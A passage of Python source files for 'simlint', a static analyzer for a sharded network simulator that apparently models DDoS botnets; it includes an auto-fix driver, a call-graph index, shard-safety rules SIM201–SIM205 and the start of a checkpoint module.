                          len(lines[node.end_lineno - 1]), ""))
    return edits, fixed


# ----------------------------------------------------------------------
# driver
# ----------------------------------------------------------------------
def fix_source(
    source: str,
    path: str = "<string>",
    select: Optional[Sequence[str]] = None,
) -> Tuple[str, int]:
    """Apply every enabled fix to one module; returns ``(new_source,
    n_fixes)``.  Unparsable or fix-breaking input comes back unchanged."""
    try:
        tree = ast.parse(source, filename=path)
    except SyntaxError:
        return source, 0
    enabled = set(select) if select is not None else set(FIXABLE_CODES)
    suppressions = parse_suppressions(source)
    edits: List[_Edit] = []
    fixed = 0
    if "SIM104" in enabled:
        default_edits, n = _fix_mutable_defaults(source, tree, suppressions)
        edits.extend(default_edits)
        fixed += n
    if "SIM108" in enabled:
        import os

        if os.path.basename(path) != "__init__.py":
            import_edits, n = _fix_unused_imports(source, tree, suppressions)
            edits.extend(import_edits)
            fixed += n
    if not fixed:
        return source, 0
    new_source = _apply_edits(source, edits)
    try:
        ast.parse(new_source, filename=path)
    except SyntaxError:  # pragma: no cover - defensive
        return source, 0
    return new_source, fixed


def fix_paths(
    paths: Sequence[str],
    select: Optional[Sequence[str]] = None,
) -> Tuple[int, List[str]]:
    """Fix every ``.py`` file under ``paths`` in place; returns
    ``(n_fixes, changed_files)``."""
    from repro.simlint.engine import iter_python_files

    total = 0
    changed: List[str] = []
    for filename in iter_python_files(paths):
        with open(filename, encoding="utf-8") as handle:
            source = handle.read()
        new_source, fixed = fix_source(source, path=filename, select=select)
        if fixed:
            with open(filename, "w", encoding="utf-8") as handle:
                handle.write(new_source)
            total += fixed
            changed.append(filename)
    return total, changed
