"""Project symbol table and call graph for whole-program lint rules.

The SIM1xx rules are deliberately per-module — they need no context
beyond one file.  The shard-safety rules (``SIM2xx``,
:mod:`repro.simlint.shardcheck`) ask questions no single module can
answer: *is this function reachable from worker-rank execution?*, *is
this counter incremented on a path whose totals never merge back?*.
This module supplies the shared substrate those rules stand on:

* :class:`ProjectIndex` — every module/class/function under a root,
  with import aliases, module-level names, and per-class ``self.X``
  assignment records resolved into one namespace;
* a **call graph** over qualnames (``pkg.mod:Class.method``) built from
  three edge kinds: *resolved* calls (module functions, imports,
  ``self.`` methods, constructors), *callback references* (a function
  passed as an argument — the dominant control flow in a discrete-event
  simulator, where ``sim.schedule(dt, dev.boot)`` is a call in every
  sense that matters), and *name-matched* (CHA-style) edges for
  ``obj.m()`` with an unknown receiver, capped at
  :data:`MAX_NAME_CANDIDATES` target classes so one generic method name
  cannot glue the whole program together;
* :meth:`ProjectIndex.reachable` — BFS over those edges from a set of
  root patterns, which is how the shard contract's ``worker_roots`` /
  ``coordinator_roots`` become executable facts.

Everything is plain ``ast`` — no imports of analyzed code, so the
analyzer can lint a tree it could never (or should never) execute.
"""

from __future__ import annotations

import ast
import os
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Set, Tuple

#: an ``obj.m()`` call with an unknown receiver links to every project
#: class defining ``m`` — but only when at most this many do.  Beyond
#: that the name is too generic (``run``, ``start``) for the edge to
#: carry information, and a false edge is worse than a missing one
#: because reachability noise drowns real findings.
MAX_NAME_CANDIDATES = 8

#: method names never matched by name (CHA): calls with an unknown
#: receiver and one of these names are overwhelmingly list/dict/set/IO
#: protocol operations, so a name edge would wire arbitrary project
#: classes into every function that touches a container.
CHA_EXCLUDED_NAMES = frozenset((
    "append", "extend", "insert", "remove", "discard", "clear", "pop",
    "popleft", "add", "update", "setdefault", "get", "keys", "values",
    "items", "sort", "reverse", "copy", "count", "index", "join",
    "split", "strip", "read", "write", "readline", "close", "flush",
))

_FUNCTION_NODES = (ast.FunctionDef, ast.AsyncFunctionDef)


@dataclass
class FunctionInfo:
    """One function or method (including nested defs)."""

    qualname: str                  # "pkg.mod:Class.method" / "pkg.mod:f.inner"
    module: str
    path: str
    node: ast.AST
    class_name: Optional[str] = None

    @property
    def local_name(self) -> str:
        return self.qualname.split(":", 1)[1]

    @property
    def line(self) -> int:
        return getattr(self.node, "lineno", 0)


@dataclass
class ClassInfo:
    """One class: its methods and every ``self.X = <expr>`` it makes."""

    name: str
    module: str
    bases: List[str] = field(default_factory=list)
    methods: Dict[str, FunctionInfo] = field(default_factory=dict)
    #: attribute name -> value expressions assigned to ``self.<attr>``
    attr_values: Dict[str, List[ast.expr]] = field(default_factory=dict)


@dataclass
class ModuleInfo:
    """One parsed module and its top-level namespace."""

    name: str
    path: str
    tree: ast.AST
    source: str
    imports: Dict[str, str] = field(default_factory=dict)   # alias -> dotted
    functions: Dict[str, FunctionInfo] = field(default_factory=dict)
    classes: Dict[str, ClassInfo] = field(default_factory=dict)
    module_globals: Set[str] = field(default_factory=set)


def _collect_imports(tree: ast.AST) -> Dict[str, str]:
    out: Dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                out[alias.asname or alias.name.split(".")[0]] = alias.name
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            for alias in node.names:
                if alias.name == "*":
                    continue
                out[alias.asname or alias.name] = f"{node.module}.{alias.name}"
    return out


def module_name_for(path: str) -> str:
    """Dotted module name from a file path, by walking package dirs up.

    ``.../src/repro/netsim/shard.py`` -> ``repro.netsim.shard`` because
    every directory up to (and excluding) ``src`` has an
    ``__init__.py``.  Files outside any package keep their bare stem.
    """
    path = os.path.abspath(path)
    directory, filename = os.path.split(path)
    parts = [os.path.splitext(filename)[0]]
    while os.path.isfile(os.path.join(directory, "__init__.py")):
        directory, package = os.path.split(directory)
        parts.append(package)
    if parts[0] == "__init__":
        parts = parts[1:] or parts
    return ".".join(reversed(parts))


class ProjectIndex:
    """Symbol table + call graph over one set of modules."""

    def __init__(self) -> None:
        self.modules: Dict[str, ModuleInfo] = {}
        self.functions: Dict[str, FunctionInfo] = {}
        #: method name -> qualnames of every project method with it
        self.method_index: Dict[str, List[str]] = {}
        self.class_index: Dict[str, List[ClassInfo]] = {}
        self._graph: Optional[Dict[str, Set[str]]] = None

    # ------------------------------------------------------------------
    # Construction
    # ------------------------------------------------------------------
    @classmethod
    def from_files(cls, paths: Iterable[str]) -> "ProjectIndex":
        """Index ``.py`` files (already expanded) from disk."""
        sources = {}
        for path in paths:
            with open(path, encoding="utf-8") as handle:
                sources[path] = handle.read()
        return cls.from_sources(
            {module_name_for(path): (path, source)
             for path, source in sources.items()}
        )

    @classmethod
    def from_sources(cls, modules: Dict[str, object]) -> "ProjectIndex":
        """Index in-memory modules: ``{name: source}`` or
        ``{name: (path, source)}`` — the test-fixture entry point."""
        index = cls()
        for name, value in sorted(modules.items()):
            path, source = value if isinstance(value, tuple) \
                else (f"{name.replace('.', '/')}.py", value)
            try:
                tree = ast.parse(source, filename=path)
            except SyntaxError:
                continue  # SIM100 is the per-file engine's report
            index._add_module(name, path, tree, source)
        index._finish()
        return index

    def _add_module(self, name: str, path: str, tree: ast.AST,
                    source: str) -> None:
        info = ModuleInfo(name=name, path=path, tree=tree, source=source,
                          imports=_collect_imports(tree))
        for stmt in tree.body:
            if isinstance(stmt, _FUNCTION_NODES):
                self._add_function(info, stmt, prefix="", class_name=None)
            elif isinstance(stmt, ast.ClassDef):
                self._add_class(info, stmt)
            elif isinstance(stmt, (ast.Assign, ast.AnnAssign, ast.AugAssign)):
                targets = stmt.targets if isinstance(stmt, ast.Assign) \
                    else [stmt.target]
                for target in targets:
                    if isinstance(target, ast.Name):
                        info.module_globals.add(target.id)
        self.modules[name] = info

    def _add_class(self, module: ModuleInfo, node: ast.ClassDef) -> None:
        klass = ClassInfo(name=node.name, module=module.name)
        for base in node.bases:
            dotted = _dotted_name(base)
            if dotted:
                klass.bases.append(dotted)
        for stmt in node.body:
            if isinstance(stmt, _FUNCTION_NODES):
                fn = self._add_function(module, stmt, prefix=node.name,
                                        class_name=node.name)
                klass.methods[stmt.name] = fn
                for sub in ast.walk(stmt):
                    if isinstance(sub, ast.Assign):
                        for target in sub.targets:
                            if (isinstance(target, ast.Attribute)
                                    and isinstance(target.value, ast.Name)
                                    and target.value.id == "self"):
                                klass.attr_values.setdefault(
                                    target.attr, []).append(sub.value)
        module.classes[node.name] = klass
        self.class_index.setdefault(node.name, []).append(klass)

    def _add_function(self, module: ModuleInfo, node: ast.AST, prefix: str,
                      class_name: Optional[str]) -> FunctionInfo:
        local = f"{prefix}.{node.name}" if prefix else node.name
        info = FunctionInfo(
            qualname=f"{module.name}:{local}", module=module.name,
            path=module.path, node=node, class_name=class_name,
        )
        module.functions[local] = info
        self.functions[info.qualname] = info
        if class_name is not None and "." not in local[len(class_name) + 1:]:
            self.method_index.setdefault(node.name, []).append(info.qualname)
        for nested in _nested_defs(node):
            self._add_function(module, nested, prefix=local,
                               class_name=class_name)
        return info

    def _finish(self) -> None:
        self._graph = None

    # ------------------------------------------------------------------
    # Resolution
    # ------------------------------------------------------------------
    def resolve_dotted(self, dotted: str) -> List[str]:
        """Project qualnames a dotted path points at (may be empty)."""
        module, _, leaf = dotted.rpartition(".")
        mod = self.modules.get(module)
        if mod is not None:
            if leaf in mod.functions:
                return [mod.functions[leaf].qualname]
            if leaf in mod.classes:
                init = mod.classes[leaf].methods.get("__init__")
                return [init.qualname] if init else []
        # "pkg.mod.Class.method"
        module2, _, klass = module.rpartition(".")
        mod2 = self.modules.get(module2)
        if mod2 is not None and klass in mod2.classes:
            method = mod2.classes[klass].methods.get(leaf)
            return [method.qualname] if method else []
        return []

    def _resolve_in_class(self, klass: ClassInfo, method: str,
                          seen: Optional[Set[str]] = None) -> List[str]:
        """Method lookup through the (project-local) base chain."""
        if method in klass.methods:
            return [klass.methods[method].qualname]
        seen = seen or set()
        out: List[str] = []
        for base in klass.bases:
            base_name = base.rpartition(".")[2]
            if base_name in seen:
                continue
            seen.add(base_name)
            for candidate in self.class_index.get(base_name, []):
                out.extend(self._resolve_in_class(candidate, method, seen))
        return out

    def _resolve_callable(self, module: ModuleInfo,
                          class_name: Optional[str],
                          node: ast.AST) -> Tuple[List[str], bool]:
        """(target qualnames, resolved?) for a call target / fn reference.

        ``resolved`` False means the targets are CHA name-matches — the
        caller may treat them as weaker evidence."""
        if isinstance(node, ast.Name):
            name = node.id
            if name in module.functions:
                return [module.functions[name].qualname], True
            if name in module.classes:
                init = module.classes[name].methods.get("__init__")
                return ([init.qualname] if init else []), True
            dotted = module.imports.get(name)
            if dotted:
                return self.resolve_dotted(dotted), True
            return [], True
        if isinstance(node, ast.Attribute):
            method = node.attr
            root = node.value
            if isinstance(root, ast.Name):
                if root.id == "self" and class_name is not None:
                    for klass in self.class_index.get(class_name, []):
                        if klass.module == module.name:
                            found = self._resolve_in_class(klass, method)
                            if found:
                                return found, True
                dotted = _dotted_name(node)
                if dotted:
                    head = dotted.split(".", 1)[0]
                    imported = module.imports.get(head)
                    if imported:
                        full = imported + dotted[len(head):]
                        found = self.resolve_dotted(full)
                        if found:
                            return found, True
                    found = self.resolve_dotted(dotted)
                    if found:
                        return found, True
            if method in CHA_EXCLUDED_NAMES:
                return [], False
            candidates = self.method_index.get(method, [])
            if 0 < len(candidates) <= MAX_NAME_CANDIDATES:
                return list(candidates), False
            return [], False
        return [], True

    # ------------------------------------------------------------------
    # Call graph + reachability
    # ------------------------------------------------------------------
    def call_graph(self) -> Dict[str, Set[str]]:
        """``qualname -> set(callee qualnames)`` (cached)."""
        if self._graph is not None:
            return self._graph
        graph: Dict[str, Set[str]] = {name: set() for name in self.functions}
        for qualname, info in self.functions.items():
            module = self.modules[info.module]
            edges = graph[qualname]
            for nested in _nested_defs(info.node):
                # a nested def belongs to (and is invoked via) its owner
                edges.add(f"{qualname}.{nested.name}")
            for node in _walk_own(info.node):
                if isinstance(node, ast.Call):
                    targets, _ = self._resolve_callable(
                        module, info.class_name, node.func)
                    edges.update(targets)
                    for arg in list(node.args) + [k.value for k in node.keywords]:
                        if isinstance(arg, (ast.Name, ast.Attribute)):
                            targets, _ = self._resolve_callable(
                                module, info.class_name, arg)
                            edges.update(targets)
        for edges in graph.values():
            edges.intersection_update(self.functions)
        self._graph = graph
        return graph

    def match(self, pattern: str) -> List[str]:
        """Qualnames a contract pattern selects.

        ``"mod:Class.method"`` is exact; ``"Class.method"`` matches any
        module; ``"Class"``/``"f"`` match the whole class/function
        including nested defs."""
        out = []
        for qualname in self.functions:
            module, local = qualname.split(":", 1)
            if ":" in pattern:
                if qualname == pattern or qualname.startswith(pattern + "."):
                    out.append(qualname)
            elif local == pattern or local.startswith(pattern + "."):
                out.append(qualname)
        return out

    def reachable(self, patterns: Iterable[str]) -> Set[str]:
        """Every function reachable (via any edge kind) from the roots."""
        graph = self.call_graph()
        frontier: List[str] = []
        for pattern in patterns:
            frontier.extend(self.match(pattern))
        seen: Set[str] = set(frontier)
        while frontier:
            current = frontier.pop()
            for callee in graph.get(current, ()):
                if callee not in seen:
                    seen.add(callee)
                    frontier.append(callee)
        return seen


def _walk_own(fn_node: ast.AST):
    """Walk a function's body EXCLUDING nested function bodies (those
    are separate graph nodes reached via the implicit owner edge)."""
    stack = list(fn_node.body)
    while stack:
        node = stack.pop()
        if isinstance(node, _FUNCTION_NODES):
            continue
        yield node
        stack.extend(ast.iter_child_nodes(node))


def _nested_defs(fn_node: ast.AST):
    """First-level nested function defs, at any statement depth."""
    stack = list(fn_node.body)
    while stack:
        node = stack.pop()
        if isinstance(node, _FUNCTION_NODES):
            yield node
            continue
        stack.extend(ast.iter_child_nodes(node))


def _dotted_name(node: ast.AST) -> Optional[str]:
    parts: List[str] = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
        return ".".join(reversed(parts))
    return None
