"""Shard-safety rules (``SIM2xx``): whole-program checks of the
sharded engine's ownership contract.

The contract itself lives in :mod:`repro.netsim.shard` as the pure
literal ``SHARD_CONTRACT`` — one source of truth shared by these rules
(read statically with :func:`ast.literal_eval`; the analyzer never
imports the code it lints) and by the runtime
:class:`~repro.simlint.runtime.ShardAccessAuditor`.  Each rule is a
``scope="project"`` entry in the ordinary rule registry, so
``--select``/``--ignore`` and ``# simlint: disable=`` comments work on
them exactly as on the per-file SIM1xx family.

* **SIM201** — worker-reachable code mutating rank-0-owned state
  (flow engine, orchestrator, attacker/tserver, sink totals) outside a
  declared hand-off channel.
* **SIM202** — module-level/shared state mutated from both the
  coordinator and worker call graphs without a declared hand-off key.
* **SIM203** — counter conservation: increments of worker-muted
  counter families outside the replicated sites, and gauge/histogram
  mutations on worker paths that the merge patch never ships — either
  silently under-counts the merged snapshot after ``_collect()``.
* **SIM204** — RNG-stream discipline (interprocedural SIM102): a named
  stream drawn during replicated build AND during partitioned
  execution diverges across ranks the moment one rank skips an event.
* **SIM205** — neutral-event hygiene: every replicated event must
  refund ``events_executed``, and every refund must be declared in the
  contract's ``neutral_events`` list.
"""

from __future__ import annotations

import ast
from typing import Dict, List, Optional, Set, Tuple

from repro.simlint.checks import _GLOBAL_DRAWS
from repro.simlint.dataflow import taint_function
from repro.simlint.rules import ProjectContext, rule
from repro.simlint.symbols import ClassInfo, FunctionInfo, ProjectIndex

__all__ = ["load_contract", "run_project_checks"]

#: the module-level literal every contract-bearing module must define
CONTRACT_NAME = "SHARD_CONTRACT"

_INSTRUMENT_CTORS = ("counter", "gauge", "histogram")
_MUTATORS_BY_KIND = {
    "counter": ("inc",),
    "gauge": ("set", "inc", "dec"),
    "histogram": ("observe",),
}


# ----------------------------------------------------------------------
# Contract loading (static: literal_eval, never import)
# ----------------------------------------------------------------------
def load_contract(ctx: ProjectContext) -> Optional[dict]:
    """The shard contract for this analysis run (cached on the ctx).

    Precedence: an explicit ``contract_override``, else the first
    module in the index defining a module-level ``SHARD_CONTRACT``
    literal (the real tree has exactly one, in ``repro.netsim.shard``).
    Returns None when the project declares no contract — every SIM2xx
    rule is then vacuously satisfied.
    """
    if "contract" in ctx.cache:
        return ctx.cache["contract"]  # type: ignore[return-value]
    contract = ctx.contract_override
    if contract is None:
        for name in sorted(ctx.index.modules):
            module = ctx.index.modules[name]
            if CONTRACT_NAME not in module.module_globals:
                continue
            for stmt in module.tree.body:
                if isinstance(stmt, ast.Assign) and any(
                        isinstance(t, ast.Name) and t.id == CONTRACT_NAME
                        for t in stmt.targets):
                    try:
                        contract = ast.literal_eval(stmt.value)
                    except ValueError:
                        contract = None
                    break
            if contract is not None:
                break
    ctx.cache["contract"] = contract
    return contract


def _matched(ctx: ProjectContext, key: str, patterns) -> Set[str]:
    """Union of ``index.match`` over contract patterns, cached by key."""
    cache_key = f"matched:{key}"
    if cache_key not in ctx.cache:
        out: Set[str] = set()
        for pattern in patterns:
            out.update(ctx.index.match(pattern))
        ctx.cache[cache_key] = out
    return ctx.cache[cache_key]  # type: ignore[return-value]


def _reachable(ctx: ProjectContext, key: str, patterns) -> Set[str]:
    cache_key = f"reach:{key}"
    if cache_key not in ctx.cache:
        ctx.cache[cache_key] = ctx.index.reachable(patterns)
    return ctx.cache[cache_key]  # type: ignore[return-value]


def _worker_set(ctx: ProjectContext, contract: dict) -> Set[str]:
    """Worker-executed functions minus the declared hand-off channels."""
    reach = _reachable(ctx, "worker", contract.get("worker_roots", ()))
    channels = _matched(ctx, "handoff",
                        contract.get("handoff_channels", ()))
    return reach - channels


def _class_for(index: ProjectIndex, fn: FunctionInfo) -> Optional[ClassInfo]:
    if fn.class_name is None:
        return None
    module = index.modules.get(fn.module)
    if module is None:
        return None
    return module.classes.get(fn.class_name)


def _base_chain(index: ProjectIndex, klass: ClassInfo,
                seen: Optional[Set[str]] = None) -> List[ClassInfo]:
    """The class plus its project-local bases (for attr-map merging)."""
    seen = seen if seen is not None else set()
    if klass.name in seen:
        return []
    seen.add(klass.name)
    out = [klass]
    for base in klass.bases:
        for candidate in index.class_index.get(base.rpartition(".")[2], []):
            out.extend(_base_chain(index, candidate, seen))
    return out


# ----------------------------------------------------------------------
# SIM201 — shard-ownership violations
# ----------------------------------------------------------------------
@rule("SIM201", "shard-ownership",
      "worker-reachable code must not mutate rank-0-owned state outside "
      "a declared hand-off channel", scope="project")
def check_shard_ownership(ctx: ProjectContext) -> None:
    contract = load_contract(ctx)
    if contract is None:
        return
    owned = set(contract.get("rank0_owned_attrs", ()))
    mutating = set(contract.get("mutating_methods", ()))
    if not owned:
        return

    def seed(node: ast.AST) -> Set[str]:
        if isinstance(node, ast.Attribute) and node.attr in owned:
            return {f"own:{node.attr}"}
        return set()

    for qualname in sorted(_worker_set(ctx, contract)):
        fn = ctx.index.functions[qualname]
        for event in taint_function(fn.node, seed):
            if event.kind == "call" and event.detail not in mutating:
                continue
            handles = ", ".join(sorted(
                tag.split(":", 1)[1] for tag in event.tags))
            what = (f"calls mutator `.{event.detail}()` on"
                    if event.kind == "call"
                    else f"stores `.{event.detail}` on"
                    if event.kind != "subscript-store"
                    else "stores into")
            ctx.report(
                fn.path, event.node, "SIM201",
                f"worker-reachable `{fn.local_name}` {what} rank-0-owned "
                f"state ({handles}); route through _LinkBridge, the flow-op "
                "proxy, or another declared hand-off channel",
            )


# ----------------------------------------------------------------------
# SIM202 — cross-rank race hazards on shared module/class state
# ----------------------------------------------------------------------
def _global_mutations(index: ProjectIndex,
                      fn: FunctionInfo) -> List[Tuple[str, ast.AST]]:
    """``(name, node)`` for every module-global / class-attribute store
    in the function's own body."""
    from repro.simlint.symbols import _walk_own

    declared: Set[str] = set()
    out: List[Tuple[str, ast.AST]] = []
    module = index.modules[fn.module]
    for node in _walk_own(fn.node):
        if isinstance(node, ast.Global):
            declared.update(node.names)
    for node in _walk_own(fn.node):
        if isinstance(node, (ast.Assign, ast.AugAssign, ast.AnnAssign)):
            targets = node.targets if isinstance(node, ast.Assign) \
                else [node.target]
            for target in targets:
                if isinstance(target, ast.Name) and target.id in declared:
                    out.append((f"{fn.module}.{target.id}", target))
                elif (isinstance(target, ast.Attribute)
                      and isinstance(target.value, ast.Name)):
                    root = target.value.id
                    if root in module.classes:
                        out.append(
                            (f"{fn.module}:{root}.{target.attr}", target))
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            # mutating call on a module-global set/list/dict object
            # (``_SEEN.add(...)`` with ``_SEEN`` a module literal)
            root = node.func.value
            if (isinstance(root, ast.Name) and root.id in module.module_globals
                    and node.func.attr in (
                        "add", "append", "update", "setdefault", "pop",
                        "clear", "extend", "remove", "discard")):
                out.append((f"{fn.module}.{root.id}", node))
    return out


@rule("SIM202", "cross-rank-race",
      "module-level/shared state must not be mutated from both the "
      "coordinator and worker call graphs", scope="project")
def check_cross_rank_race(ctx: ProjectContext) -> None:
    contract = load_contract(ctx)
    if contract is None:
        return
    allowed = set(contract.get("shared_globals_ok", ()))
    workers = _worker_set(ctx, contract)
    coordinators = _reachable(
        ctx, "coordinator", contract.get("coordinator_roots", ()))
    channels = _matched(ctx, "handoff", contract.get("handoff_channels", ()))
    #: name -> list of (fn, node, sides)
    sites: Dict[str, List[Tuple[FunctionInfo, ast.AST, Set[str]]]] = {}
    for qualname, fn in ctx.index.functions.items():
        if qualname in channels:
            continue
        sides = set()
        if qualname in workers:
            sides.add("worker")
        if qualname in coordinators:
            sides.add("coordinator")
        if not sides:
            continue
        for name, node in _global_mutations(ctx.index, fn):
            sites.setdefault(name, []).append((fn, node, sides))
    for name in sorted(sites):
        short = name.rpartition(".")[2].rpartition(":")[2]
        if short in allowed or name in allowed:
            continue
        all_sides = set()
        for _fn, _node, sides in sites[name]:
            all_sides |= sides
        if all_sides < {"worker", "coordinator"}:
            continue
        for fn, node, _sides in sites[name]:
            ctx.report(
                fn.path, node, "SIM202",
                f"`{short}` is mutated from both coordinator- and "
                f"worker-reachable code (here in `{fn.local_name}`); ranks "
                "are separate processes, so divergent copies break "
                "fingerprint composition — move it behind a hand-off "
                "channel or declare it in shared_globals_ok",
            )


# ----------------------------------------------------------------------
# SIM203 — counter conservation across the shard merge
# ----------------------------------------------------------------------
def _literal_family(call: ast.expr) -> Optional[Tuple[str, str]]:
    """``(kind, family)`` when the expression registers an instrument
    with a literal name: ``<reg>.counter("queue_drops_total", ...)``."""
    if not (isinstance(call, ast.Call)
            and isinstance(call.func, ast.Attribute)
            and call.func.attr in _INSTRUMENT_CTORS
            and call.args
            and isinstance(call.args[0], ast.Constant)
            and isinstance(call.args[0].value, str)):
        return None
    return call.func.attr, call.args[0].value


def _instrument_map(index: ProjectIndex,
                    fn: FunctionInfo) -> Dict[str, Tuple[str, str]]:
    """attr name -> (kind, family) for the function's class chain."""
    klass = _class_for(index, fn)
    if klass is None:
        return {}
    out: Dict[str, Tuple[str, str]] = {}
    for info in _base_chain(index, klass):
        for attr, values in info.attr_values.items():
            for value in values:
                family = _literal_family(value)
                if family is not None:
                    out.setdefault(attr, family)
    return out


@rule("SIM203", "counter-conservation",
      "worker-path metric mutations must survive the shard merge: muted "
      "counters only at replicated sites, no unmerged gauge/histogram "
      "writes", scope="project")
def check_counter_conservation(ctx: ProjectContext) -> None:
    contract = load_contract(ctx)
    if contract is None:
        return
    muted = set(contract.get("worker_muted_counters", ()))
    unmerged_ok = set(contract.get("unmerged_families_ok", ()))
    replicated = _matched(ctx, "replicated",
                          contract.get("replicated_sites", ()))
    for qualname in sorted(_worker_set(ctx, contract)):
        fn = ctx.index.functions[qualname]
        instruments = _instrument_map(ctx.index, fn)

        def seed(node: ast.AST) -> Set[str]:
            if isinstance(node, ast.Attribute) and node.attr in instruments:
                kind, family = instruments[node.attr]
                return {f"{kind}:{family}"}
            inline = _literal_family(node)
            if inline is not None:
                return {f"{inline[0]}:{inline[1]}"}
            return set()

        for event in taint_function(fn.node, seed):
            if event.kind != "call":
                continue
            for tag in sorted(event.tags):
                kind, _, family = tag.partition(":")
                if event.detail not in _MUTATORS_BY_KIND.get(kind, ()):
                    continue
                if kind == "counter":
                    if family in muted and qualname not in replicated:
                        ctx.report(
                            fn.path, event.node, "SIM203",
                            f"`{family}` is worker-muted (parent-counted), "
                            f"but `{fn.local_name}` increments it on a "
                            "non-replicated worker path — the increment "
                            "exists only on worker ranks and vanishes from "
                            "the merged snapshot; move the increment to a "
                            "replicated site or un-mute and merge the family",
                        )
                elif family not in unmerged_ok and qualname not in replicated:
                    ctx.report(
                        fn.path, event.node, "SIM203",
                        f"{kind} `{family}` is mutated on a worker path, but "
                        "the shard merge patch ships only counters — this "
                        f"{kind} silently under-counts after _collect(); "
                        "declare it in unmerged_families_ok with a "
                        "justification or make the parent authoritative",
                    )


# ----------------------------------------------------------------------
# SIM204 — RNG-stream discipline across build/execution phases
# ----------------------------------------------------------------------
def _stream_name(call: ast.expr) -> Optional[str]:
    """The purpose suffix of ``random.Random(f"{seed}-purpose")`` (or a
    plain string seed); None for unnamed/non-Random calls."""
    if not isinstance(call, ast.Call) or not call.args:
        return None
    func = call.func
    name = func.attr if isinstance(func, ast.Attribute) else \
        func.id if isinstance(func, ast.Name) else None
    if name != "Random":
        return None
    seed_arg = call.args[0]
    if isinstance(seed_arg, ast.Constant) and isinstance(seed_arg.value, str):
        return seed_arg.value
    if isinstance(seed_arg, ast.JoinedStr) and seed_arg.values:
        last = seed_arg.values[-1]
        if isinstance(last, ast.Constant) and isinstance(last.value, str):
            return last.value.lstrip("-") or None
    return None


def _stream_draws(ctx: ProjectContext,
                  fn: FunctionInfo) -> List[Tuple[str, ast.AST]]:
    """``(stream, node)`` for every named-stream draw in the function."""
    klass = _class_for(ctx.index, fn)
    streams: Dict[str, str] = {}
    if klass is not None:
        for info in _base_chain(ctx.index, klass):
            for attr, values in info.attr_values.items():
                for value in values:
                    name = _stream_name(value)
                    if name is not None:
                        streams.setdefault(attr, name)

    def seed(node: ast.AST) -> Set[str]:
        if isinstance(node, ast.Attribute) and node.attr in streams:
            return {f"rng:{streams[node.attr]}"}
        name = _stream_name(node)
        if name is not None:
            return {f"rng:{name}"}
        return set()

    out: List[Tuple[str, ast.AST]] = []
    for event in taint_function(fn.node, seed):
        if event.kind != "call" or event.detail not in _GLOBAL_DRAWS:
            continue
        for tag in sorted(event.tags):
            if tag.startswith("rng:"):
                out.append((tag[4:], event.node))
    return out


@rule("SIM204", "shard-rng-stream",
      "a named RNG stream must not be drawn from both the replicated "
      "build phase and partitioned worker execution", scope="project")
def check_shard_rng_streams(ctx: ProjectContext) -> None:
    contract = load_contract(ctx)
    if contract is None:
        return
    allowed = set(contract.get("partitioned_streams_ok", ()))
    build = _reachable(ctx, "build", contract.get("build_roots", ()))
    replicated = _matched(ctx, "replicated",
                          contract.get("replicated_sites", ()))
    draws_cache: Dict[str, List[Tuple[str, ast.AST]]] = {
        qualname: _stream_draws(ctx, ctx.index.functions[qualname])
        for qualname in ctx.index.functions
    }
    build_streams = {
        stream
        for qualname in build
        for stream, _node in draws_cache.get(qualname, ())
    }
    for qualname in sorted(_worker_set(ctx, contract)):
        if qualname in replicated or qualname in build:
            continue
        fn = ctx.index.functions[qualname]
        for stream, node in draws_cache.get(qualname, ()):
            if stream in allowed or stream not in build_streams:
                continue
            ctx.report(
                fn.path, node, "SIM204",
                f"stream `{stream}` is drawn during replicated build AND "
                f"here on a partitioned worker path (`{fn.local_name}`): "
                "ranks skip each other's events, so the stream positions "
                "diverge and every later replicated draw differs; give "
                "the partitioned path its own per-purpose stream",
            )


# ----------------------------------------------------------------------
# SIM205 — neutral-event hygiene
# ----------------------------------------------------------------------
def _refunds_events(fn_node: ast.AST) -> bool:
    """True when the function's own body decrements ``events_executed``."""
    from repro.simlint.symbols import _walk_own

    for node in _walk_own(fn_node):
        if (isinstance(node, ast.AugAssign)
                and isinstance(node.op, ast.Sub)
                and isinstance(node.target, ast.Attribute)
                and node.target.attr == "events_executed"):
            return True
    return False


@rule("SIM205", "neutral-event",
      "every replicated event must refund events_executed, and every "
      "refund must be declared in the contract", scope="project")
def check_neutral_events(ctx: ProjectContext) -> None:
    contract = load_contract(ctx)
    if contract is None:
        return
    declared = _matched(ctx, "neutral", contract.get("neutral_events", ()))
    for qualname in sorted(declared):
        fn = ctx.index.functions[qualname]
        if not _refunds_events(fn.node):
            ctx.report(
                fn.path, fn.node, "SIM205",
                f"`{fn.local_name}` is declared a neutral event but never "
                "refunds events_executed: replicated ranks each count it "
                "and the merged total over-counts; add "
                "`sim.events_executed -= 1` (or drop it from "
                "neutral_events)",
            )
    for qualname in sorted(set(ctx.index.functions) - declared):
        fn = ctx.index.functions[qualname]
        if _refunds_events(fn.node):
            ctx.report(
                fn.path, fn.node, "SIM205",
                f"`{fn.local_name}` refunds events_executed but is not "
                "declared in the shard contract's neutral_events — the "
                "analyzer cannot prove the replicated schedule is "
                "conserved; add the pattern to SHARD_CONTRACT",
            )


def run_project_checks(ctx: ProjectContext, codes: List[str]) -> None:
    """Run the selected project-scope rules against one index."""
    from repro.simlint.rules import REGISTRY

    for code in codes:
        entry = REGISTRY[code]
        if entry.scope == "project":
            entry.check(ctx)
