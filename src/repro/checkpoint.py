"""Deterministic checkpoint/restore for whole simulation runs.

Generator-based :class:`~repro.netsim.process.SimProcess` coroutines —
C&C sessions, bots, PID-1 init programs — make raw state *serialization*
impossible in pure Python (generators cannot be pickled), so DDoSim
checkpoints the way record-and-replay debuggers do instead:

* A **checkpoint** is a versioned, content-hashed *fingerprint tree* of
  the complete simulator state at a deterministic virtual-time barrier:
  the scheduler event queue (packet trains and tombstones included), all
  named RNG streams, per-link device/queue/channel state, FlowEngine
  epochs and fractional-packet remainders, botnet and fleet state,
  FaultInjector progress, sink histograms and the obs metrics/spans.
  Files are written atomically (mkstemp + rename, like the cache blob
  store) as ``checkpoint-<tick>.json``.
* A **restore** (:func:`resume_run`) replays deterministically from
  t=0 under the checkpointed config and *verifies* the stored
  fingerprint at every barrier it passes — any divergence raises
  :class:`CheckpointDivergence` naming the exact subsystems that
